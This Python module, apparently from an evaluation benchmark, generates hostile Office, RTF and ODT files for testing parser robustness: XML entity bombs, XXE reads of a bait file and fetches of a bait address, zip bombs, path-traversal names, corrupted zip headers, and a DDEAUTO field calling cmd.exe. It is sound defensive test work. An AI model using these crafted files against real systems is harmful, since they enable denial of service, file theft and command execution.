"""Hostile Office files: packed bombs, XML that unfolds or reaches out, names that lead astray."""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
from collections.abc import Iterator, Mapping

from evals.bench.hostile_file import Bait, Hostile, damaged

_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_WORD = "word/document.xml"
_SHEET = "xl/worksheets/sheet1.xml"
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
Parts = Mapping[str, bytes]


def files(bait: Bait) -> Iterator[Hostile]:
    """Yield all of them, the same on every run."""
    yield from _packages("docx", _docx(), _WORD, bait)
    yield from _packages("pptx", _pptx(), "ppt/slides/slide1.xml", bait)
    yield from _packages("xlsx", _xlsx(), _SHEET, bait)
    yield from _word(bait)
    yield from _slides()
    yield from _sheets()
    yield from _converted(bait)
    for suffix, whole in (("docx", _docx()), ("pptx", _pptx()), ("xlsx", _xlsx())):
        yield from damaged(f"dokument.{suffix}", whole, flips=20, cuts=5)


def repacked(whole: bytes, changed: Parts, *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Return a package with some parts changed or added."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(whole)) as old,
        zipfile.ZipFile(out, "w", method) as new,
        warnings.catch_warnings(),
    ):
        warnings.simplefilter("ignore")  # names given twice
        for info in old.infolist():
            if info.filename not in changed:
                new.writestr(_dated(info.filename), old.read(info), method)
        for name, data in changed.items():
            new.writestr(_dated(name), data, method, 1 if len(data) > 1_000_000 else None)
    return out.getvalue()


def _dated(name: str) -> zipfile.ZipInfo:
    return zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0))


def _docx() -> bytes:
    import docx

    document = docx.Document()
    document.add_heading("Protokoll", 1)
    for number in range(1, 20):
        document.add_paragraph(f"§ {number} Kommunstyrelsen beslutar att anta del {number}.")
    table = document.add_table(3, 3)
    for row in table.rows:
        for cell in row.cells:
            cell.text = "1 200"
    return _saved(document)


def _pptx() -> bytes:
    import pptx

    deck = pptx.Presentation()
    slide = deck.slides.add_slide(deck.slide_layouts[1])
    slide.shapes.title.text = "Budget"
    slide.placeholders[1].text = "Kostnaden är 12 mnkr"
    return _saved(deck)


def _xlsx() -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    for row in (["Mått", "2023", "2024"], ["Kostnad", 1200, 1310], ["Andel", 0.4, 0.5]):
        book.active.append(row)
    return _saved(book)


def _saved(document: object) -> bytes:
    out = io.BytesIO()
    document.save(out)  # type: ignore[attr-defined]  # three libraries, one method
    return out.getvalue()


def _bomb(megabytes: int, before: bytes, unit: bytes, after: bytes) -> bytes:
    return before + unit * (megabytes * 1_000_000 // len(unit)) + after


def _packages(suffix: str, whole: bytes, main: str, bait: Bait) -> Iterator[Hostile]:
    """Yield what any package can be made to: the same for all three."""
    with zipfile.ZipFile(io.BytesIO(whole)) as archive:
        text = archive.read(main)
    head, _, body = text.partition(b"?>")
    if not body:
        head, body = b"<?xml version='1.0'", text
    root = body.lstrip().split(b"<", 2)[1].split(b">")[0].split()[0]
    inner = body.lstrip().partition(b">")[2]
    opening = body.lstrip().partition(b">")[0] + b">"

    def with_dtd(declared: bytes, used: bytes) -> bytes:
        return head + b"?><!DOCTYPE " + root + b" [" + declared + b"]>" + opening + used + inner

    rows = b'<!ENTITY a0 "ha">' + b"".join(
        b'<!ENTITY a%d "%s">' % (i, b"&a%d;" % (i - 1) * 10) for i in range(1, 10)
    )
    big = b'<!ENTITY b "' + b"x" * 200_000 + b'">'
    for name, data in (
        ("enheter", with_dtd(rows, b"&a9;")),
        ("enhet-kvadratisk", with_dtd(big, b"&b;" * 20_000)),
        ("enhet-i-krets", with_dtd(b'<!ENTITY a "&b;"><!ENTITY b "&a;">', b"&a;")),
        ("enhet-fil", with_dtd(b'<!ENTITY f SYSTEM "file://%s">' % bait.file.encode(), b"&f;")),
        ("enhet-adress", with_dtd(b'<!ENTITY f SYSTEM "%s">' % bait.address.encode(), b"&f;")),
        ("enhet-parameter", with_dtd(b'<!ENTITY %% p SYSTEM "%s"> %%p;' % bait.address.encode(), b"")),
        ("dtd-adress", head + b"?><!DOCTYPE " + root + b' SYSTEM "' + bait.address.encode() + b'">' + body),
    ):  # fmt: skip
        yield Hostile(f"{name}.{suffix}", "xml-enheter", repacked(whole, {main: data}))
    for name, data in (
        ("djupt", head + b"?>" + opening + b"<a>" * 200_000 + b"</a>" * 200_000 + inner),
        ("attribut", head + b"?>" + opening[:-1] + b"".join(b' a%d="1"' % i for i in range(100_000)) + b">" + inner),
        ("langt-attribut", head + b"?>" + opening[:-1] + b' a="' + b"x" * 12_000_000 + b'">' + inner),
        ("kommentar", head + b"?><!--" + b"-x" * 5_000_000 + b"-->" + body),
        ("nolltecken", text.replace(b">", b">\0", 3)), ("tom", b""), ("bara-huvud", head + b"?>"),
        ("annan-kodning", head + b" encoding='utf-7'?>" + body), ("utan-slut", text[: len(text) // 2]),
        ("namnrymder", head + b"?>" + opening + b"".join(b"<a xmlns:n%d='u%d'>" % (i, i) for i in range(200)) + inner),
    ):  # fmt: skip
        yield Hostile(f"{name}.{suffix}", "trasig xml", repacked(whole, {main: data}))
    blank = head + b"?>" + opening
    yield Hostile(
        f"packbomb.{suffix}", "packbomb",
        repacked(whole, {main: _bomb(600, blank, b" " * 1000, inner)}),
    )  # fmt: skip
    yield Hostile(
        f"packbomb-annan-del.{suffix}", "packbomb",
        repacked(whole, {"docProps/core.xml": _bomb(600, b"<a>", b" " * 1000, b"</a>")}),
    )  # fmt: skip
    yield from _astray(suffix, whole, bait)


def _astray(suffix: str, whole: bytes, bait: Bait) -> Iterator[Hostile]:
    """Yield packages whose names, sizes and links are not what they should be."""
    for name, part in (
        ("uppat", "../../../../ut.txt"), ("absolut", "/ut.txt"), ("enhet", "C:\\ut.txt"),
        ("langt", "a" * 60_000), ("tomt", ""), ("dubbelt", "[Content_Types].xml"),
        ("omvant", "bild\u202egpj.exe"), ("styrtecken", "\x1b[2J.xml"),
    ):  # fmt: skip
        changed = repacked(whole, {part: b"x"}) if name != "dubbelt" else _doubled(whole, part)
        yield Hostile(f"namn-{name}.{suffix}", "namn i paketet", changed)
    nul = repacked(whole, {"ut_x.txt": b"x"}).replace(b"ut_x.txt", b"ut\0x.txt")
    yield Hostile(f"namn-noll.{suffix}", "namn i paketet", nul)
    many = repacked(whole, {f"x/{i}": b"" for i in range(66_000)}, method=zipfile.ZIP_STORED)
    yield Hostile(f"sextiosextusen-delar.{suffix}", "mycket av något", many)
    nested = whole
    for _ in range(30):
        nested = repacked(whole, {"inner.zip": nested})
    yield Hostile(f"paket-i-paket.{suffix}", "packbomb", repacked(whole, {"word/i.zip": nested}))
    at = whole.rindex(b"PK\5\6")
    for name, data in (
        ("okand-packning", _each_central(whole, 10, struct.pack("<H", 99))),
        ("krypterad", _each_central(whole, 8, struct.pack("<H", 1))),
        ("stor-enligt-uppgift", _each_central(whole, 24, struct.pack("<I", 0xFFFFFFF0))),
        ("liten-enligt-uppgift", _each_central(whole, 24, struct.pack("<I", 1))),
        ("samma-plats", _each_central(whole, 42, struct.pack("<I", 0))),
        ("antal", whole[: at + 8] + b"\xff\xff\xff\xff" + whole[at + 12 :]),
        ("plats", whole[: at + 16] + b"\xff\xff\xff\x7f" + whole[at + 20 :]),
    ):
        yield Hostile(f"zip-{name}.{suffix}", "fel antal", data)
    links = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        '2006/relationships">{}</Relationships>'
    )
    one = '<Relationship Id="r{0}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{1}" Target="{2}" TargetMode="{3}"/>'
    kind = "officeDocument"
    for name, rows in (
        ("utat", one.format(1, kind, bait.address, "External")),
        ("fil", one.format(1, kind, "file://" + bait.file, "External")),
        ("uppat", one.format(1, kind, "../../../../.." + bait.file, "Internal")),
        ("sig-sjalv", one.format(1, kind, "_rels/.rels", "Internal")),
        ("inga", ""),
        ("manga", "".join(one.format(i, "x", f"x/{i}", "External") for i in range(50_000))),
    ):
        data = repacked(whole, {"_rels/.rels": links.format(rows).encode()})
        yield Hostile(f"lankar-{name}.{suffix}", "länkar", data)


def _doubled(whole: bytes, part: str) -> bytes:
    with zipfile.ZipFile(out := io.BytesIO(whole), "a") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        archive.writestr(_dated(part), b"<a/>")
    return out.getvalue()


def _each_central(whole: bytes, place: int, value: bytes) -> bytes:
    """Return a package with bytes changed in every entry of its directory."""
    data = bytearray(whole)
    at = data.find(b"PK\1\2")
    while at >= 0:
        data[at + place : at + place + len(value)] = value
        at = data.find(b"PK\1\2", at + 4)
    return bytes(data)


def _word(bait: Bait) -> Iterator[Hostile]:
    whole = _docx()
    cell = "<w:tc><w:p><w:r><w:t>1</w:t></w:r></w:p></w:tc>"
    nested = "<w:tbl><w:tr><w:tc>" * 400 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 400
    span = '<w:tc><w:tcPr><w:gridSpan w:val="2147483647"/></w:tcPr><w:p/></w:tc>'
    breaks = "<w:p><w:r><w:t>a</w:t><w:lastRenderedPageBreak/></w:r></w:p>"
    merged = "<w:tc><w:tcPr><w:vMerge/></w:tcPr><w:p/></w:tc>"
    field = '<w:p><w:fldSimple w:instr="{}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
    chunk = '<w:altChunk xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="r9"/>'
    long = "<w:p><w:r><w:t>" + "a" * 3_000_000 + "</w:t></w:r></w:p>"
    for name, kind, body in (
        ("tabeller-i-tabeller", "struktur", nested),
        ("spann", "fel antal", f"<w:tbl><w:tr>{span * 300}</w:tr></w:tbl>"),
        ("bred-tabell", "mycket av något", f"<w:tbl><w:tr>{cell * 60_000}</w:tr></w:tbl>"),
        ("lang-tabell", "mycket av något", f"<w:tbl>{f'<w:tr>{cell * 2}</w:tr>' * 40_000}</w:tbl>"),
        ("sammanslaget", "mycket av något",
         f"<w:tbl><w:tr>{cell}</w:tr>{f'<w:tr>{merged}{cell}</w:tr>' * 20_000}</w:tbl>"),
        ("hundratusen-sidor", "mycket av något", breaks * 100_000),
        ("tvahundratusen-stycken", "mycket av något", "<w:p><w:r><w:t>a</w:t></w:r></w:p>" * 200_000),
        ("ett-ord", "mycket av något", long),
        ("dde", "makron", field.format("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe")),
        ("hamta-text", "länkar", field.format(f"INCLUDETEXT {bait.address}")),
        ("hamta-fil", "länkar", field.format(f"INCLUDETEXT {bait.file}")),
        ("annan-del", "länkar", chunk),
        ("riktning", "osedda tecken",
         "<w:p><w:r><w:t>Beslut \u202eegdub \u2066avslås\u2069 \u200f\u061c</w:t></w:r></w:p>"),
        ("bara-osedda", "osedda tecken", "<w:p><w:r><w:t>\u202e\u200b\ufeff</w:t></w:r></w:p>"),
        ("tomt", "struktur", ""),
    ):  # fmt: skip
        document = f"<w:document {_W}><w:body>{body}</w:body></w:document>"
        yield Hostile(f"{name}.docx", kind, repacked(whole, {_WORD: document.encode()}))
    style = '<w:style w:styleId="{}"><w:name w:val="x"/><w:basedOn w:val="{}"/></w:style>'
    styles = f"<w:styles {_W}>{style.format('a', 'b')}{style.format('b', 'a')}</w:styles>"
    yield Hostile(
        "formatmallar.docx", "kretsar", repacked(whole, {"word/styles.xml": styles.encode()})
    )
    chain = "".join(style.format(f"s{i}", f"s{i + 1}") for i in range(6000))
    chained = f"<w:styles {_W}>{chain}</w:styles>".encode()
    yield Hostile(
        "formatmallar-kedja.docx", "kretsar", repacked(whole, {"word/styles.xml": chained})
    )
    core = "<cp:coreProperties xmlns:cp='http://schemas.openxmlformats.org/package/2006/metadata/core-properties' xmlns:dc='http://purl.org/dc/elements/1.1/' xmlns:dcterms='http://purl.org/dc/terms/'><dc:title>{}</dc:title><dcterms:created>{}</dcterms:created></cp:coreProperties>"
    for name, title, made in (
        ("titel", "x" * 5_000_000, "2024-01-01T00:00:00Z"), ("datum", "x", "99999-99-99T99:99:99Z"),
        ("titel-tecken", "a\u202efdp.exe", "0000-00-00"),
    ):  # fmt: skip
        data = repacked(whole, {"docProps/core.xml": core.format(title, made).encode()})
        yield Hostile(f"egenskaper-{name}.docx", "struktur", data)
    macro = {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"AutoOpen Shell" * 99}
    yield Hostile("makro.docx", "makron", repacked(whole, macro))
    header = b"\x89PNG\r\n\x1a\n" + struct.pack(
        ">I4sIIBBBBB", 13, b"IHDR", 60_000, 60_000, 8, 6, 0, 0, 0
    )
    yield Hostile("bild.docx", "bilder", repacked(whole, {"word/media/image1.png": header}))


def _slides() -> Iterator[Hostile]:
    whole = _pptx()
    with zipfile.ZipFile(io.BytesIO(whole)) as archive:
        slide = archive.read("ppt/slides/slide1.xml").decode()
        deck = archive.read("ppt/presentation.xml").decode()
    tree = slide.index("</p:spTree>")
    group = "<p:grpSp><p:nvGrpSpPr><p:cNvPr id='9' name='a'/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>"
    shape = slide[slide.index("<p:sp>") : slide.index("</p:sp>") + 7]
    for name, kind, inner in (
        ("grupper-i-grupper", "struktur", group * 200 + "</p:grpSp>" * 200),
        ("grupper-mycket-djupt", "struktur", group * 5000 + "</p:grpSp>" * 5000),
        ("tjugotusen-former", "mycket av något", shape * 20_000),
    ):
        data = slide[:tree] + inner + slide[tree:]
        yield Hostile(
            f"{name}.pptx", kind, repacked(whole, {"ppt/slides/slide1.xml": data.encode()})
        )
    start, end = deck.index("<p:sldId "), deck.index("</p:sldIdLst>")
    one = deck[start:end]
    for name, kind, inner in (
        ("samma-bild-tiotusen", "mycket av något", one * 10_000),
        ("utan-bilder", "fel antal", ""), ("okand-bild", "fel antal", one.replace("rId", "rIdx")),
    ):  # fmt: skip
        data = deck[:start] + inner + deck[end:]
        yield Hostile(
            f"{name}.pptx", kind, repacked(whole, {"ppt/presentation.xml": data.encode()})
        )
    size = deck.replace('cx="9144000"', 'cx="99999999999999999999"')
    yield Hostile(
        "storlek.pptx", "fel antal", repacked(whole, {"ppt/presentation.xml": size.encode()})
    )
    macro = {"ppt/vbaProject.bin": b"AutoOpen" * 99}
    yield Hostile("makro.pptx", "makron", repacked(whole, macro))


def _sheets() -> Iterator[Hostile]:
    whole = _xlsx()

    def sheet(rows: str, after: str = "", before: str = "") -> bytes:
        data = (
            f'<worksheet xmlns="{_MAIN}">{before}<sheetData>{rows}</sheetData>{after}</worksheet>'
        )
        return repacked(whole, {_SHEET: data.encode()})

    text = '<c r="{}" t="inlineStr"><is><t>{}</t></is></c>'
    far = "".join(
        f'<row r="{i}">{text.format(f"A{i}", "a")}{text.format(f"XFD{i}", "b")}</row>'
        for i in range(1, 30_001)
    )
    cells = "".join(f"<c><v>{i}</v></c>" for i in range(200))
    merges = "".join(f'<mergeCell ref="A{i}:XFD1048576"/>' for i in range(1, 3000))
    edge = f'<row r="1048576">{text.format("XFD1048576", "a")}</row>'
    formulas = '<row r="1"><c r="A1"><f>B1</f></c><c r="B1"><f>A1</f></c></row>'
    numbers = "".join(
        f'<row><c t="{kind}"><v>{value}</v></c></row>'
        for kind in ("n", "d", "b", "e", "s", "str", "x")
        for value in ("1e308", "-1e308", "1e999", "NaN", "99999999999999999999", "-1", "x", "")
    )
    for name, kind, data in (
        ("tva-kolumner-langt-isar", "mycket av något", sheet(far)),
        ("miljon-celler", "mycket av något", sheet(f"<row>{cells}</row>" * 5000)),
        ("sista-cellen", "fel antal", sheet(edge)),
        ("sista-cellen-och-forsta", "fel antal", sheet(f'<row r="1">{text.format("A1", "a")}</row>' + edge)),
        ("matt-enligt-uppgift", "fel antal", sheet(edge, before='<dimension ref="A1:XFD1048576"/>')),
        ("sammanslaget", "mycket av något", sheet(far[:60_000].rpartition("<row")[0], f"<mergeCells>{merges}</mergeCells>")),
        ("formler", "kretsar", sheet(formulas)), ("tal", "fel antal", sheet(numbers)),
        ("rad-noll", "fel antal", sheet('<row r="0"><c r="A0"><v>1</v></c></row>')),
        ("rad-negativ", "fel antal", sheet('<row r="-5"><c r="A-5"><v>1</v></c></row>')),
        ("rad-enorm", "fel antal", sheet('<row r="99999999999"><c r="A99999999999"><v>1</v></c></row>')),
        ("kolumn-enorm", "fel antal", sheet('<row r="1"><c r="ZZZZZZ1"><v>1</v></c></row>')),
        ("lang-cell", "mycket av något", sheet(f"<row>{text.format('A1', 'x' * 5_000_000)}</row>")),
        ("tecken", "osedda tecken", sheet(f"<row>{text.format('A1', 'a&#x202E;b&#x85;')}</row>")),
    ):  # fmt: skip
        yield Hostile(f"blad-{name}.xlsx", kind, data)
    strings = f'<sst xmlns="{_MAIN}"><si><t>{"lång text " * 100_000}</t></si></sst>'
    shared = "".join(f'<c t="s"><v>{i % 2}</v></c>' for i in range(100))
    data = repacked(
        whole,
        {
            _SHEET: f'<worksheet xmlns="{_MAIN}"><sheetData>{f"<row>{shared}</row>" * 4000}'
            "</sheetData></worksheet>".encode(),
            "xl/sharedStrings.xml": strings.encode(),
        },
    )
    yield Hostile("samma-text-fyrahundratusen.xlsx", "packbomb", data)
    one = data.replace(b"x", b"x")
    yield Hostile(
        "makro.xlsx",
        "makron",
        repacked(one, {"xl/vbaProject.bin": b"Auto" * 99, "xl/sharedStrings.xml": b"<sst/>"}),
    )
    formats = f'<styleSheet xmlns="{_MAIN}"><numFmts><numFmt numFmtId="200" formatCode="{"[" * 9000}"/></numFmts><cellXfs>{"<xf/>" * 60_000}</cellXfs></styleSheet>'
    yield Hostile(
        "talformat.xlsx", "struktur", repacked(whole, {"xl/styles.xml": formats.encode()})
    )


def _converted(bait: Bait) -> Iterator[Hostile]:
    """Yield what goes by way of LibreOffice: seconds each, so no more than a few."""
    link = bait.address
    for name, kind, data in (
        ("djup.rtf", "struktur", b"{\\rtf1 " + b"{" * 200_000),
        ("lank.rtf", "länkar", b'{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE "%s"}}a}' % link.encode()),
        ("fil.rtf", "länkar", b'{\\rtf1{\\field{\\*\\fldinst INCLUDETEXT "%s"}}a}' % bait.file.encode()),
        ("objekt.rtf", "makron", b"{\\rtf1{\\object\\objocx{\\*\\objdata " + b"d0cf11e0" * 999 + b"}}a}"),
        ("skrap.rtf", "struktur", b"{\\rtf1 " + bytes(range(32, 256)) * 500),
        ("krets.doc", "kretsar", _ole("WordDocument")), ("krets.xls", "kretsar", _ole("Workbook")),
        ("kort.ppt", "avkortade", _ole("PowerPoint Document")[:700]),
        ("enheter.odt", "xml-enheter", _odt(b'<!DOCTYPE a [<!ENTITY f SYSTEM "file://%s">]>' % bait.file.encode(), b"&f;")),
        ("packbomb.odt", "packbomb", _odt(b"", b" " * 600_000_000)),
        ("lank.odt", "länkar", _odt(b"", b'<text:section text:name="a"><text:section-source xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="%s"/></text:section>' % link.encode())),
        ("paket.docx", "packbomb", repacked(_docx(), {"a.zip": b"PK\3\4"})),
        ("bild.pdf", "struktur", b"\x89PNG\r\n\x1a\n\0" + b"x" * 999),
        ("kalkyl.docx", "struktur", _xlsx()), ("text.docx", "struktur", b"<html>Logga in</html>"),
    ):  # fmt: skip
        yield Hostile(name, kind, data)


def _ole(stream: str) -> bytes:
    """Return a compound file whose sectors and directory lead back to themselves."""
    head = bytearray(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504)
    struct.pack_into("<HHHH", head, 24, 0x3E, 3, 0xFFFE, 9)
    struct.pack_into("<IIII", head, 44, 1, 1, 0, 0)
    struct.pack_into("<I", head, 76, 0)
    fat = struct.pack("<128I", *[0xFFFFFFFD, 1, *[2] * 126])
    entries = bytearray()
    for name, kind in (("Root Entry", 5), (stream, 2)):
        raw = name.encode("utf-16-le")
        entry = bytearray(raw.ljust(64, b"\0") + b"\0" * 64)
        struct.pack_into("<HBBIII", entry, 64, len(raw) + 2, kind, 1, 1, 1, 1)
        struct.pack_into("<II", entry, 116, 2, 0xFFFFFF)
        entries += entry
    return bytes(head) + fat + bytes(entries.ljust(512, b"\0")) + b"\0" * 2048


def _odt(before: bytes, inner: bytes) -> bytes:
    out = io.BytesIO()
    spaces = " ".join(
        f'xmlns:{n}="urn:oasis:names:tc:opendocument:xmlns:{n}:1.0"' for n in ("office", "text")
    )
    content = (
        b'<?xml version="1.0"?>%s<office:document-content %s office:version="1.2"><office:body>'
        % (before, spaces.encode())
    )
    content += b"<office:text><text:p>a" + inner + b"</text:p></office:text></office:body>"
    content += b"</office:document-content>"
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            _dated("mimetype"), "application/vnd.oasis.opendocument.text", zipfile.ZIP_STORED
        )
        archive.writestr(_dated("content.xml"), content, zipfile.ZIP_DEFLATED, 1)
        kinds = '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        archive.writestr(
            _dated("META-INF/manifest.xml"),
            f'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">{kinds}</manifest:manifest>',
        )
    return out.getvalue()
